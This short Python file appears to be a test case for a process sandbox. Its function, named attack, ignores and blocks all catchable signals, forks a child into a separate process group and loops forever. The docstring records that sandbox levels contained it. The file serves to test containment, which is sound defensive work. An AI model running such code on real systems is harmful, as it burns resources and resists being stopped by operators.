"""Ignores and blocks every signal that can be, in a process of another group, and goes on for ever.

kind: persist
says: stopped at its limit of 2 seconds
strong: holds
partial: holds
none: holds
never returns.
"""

import contextlib
import os
import signal


def attack():
    for number in range(1, signal.NSIG):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    if os.fork() == 0:
        os.setpgid(0, 0)
    while True:
        pass
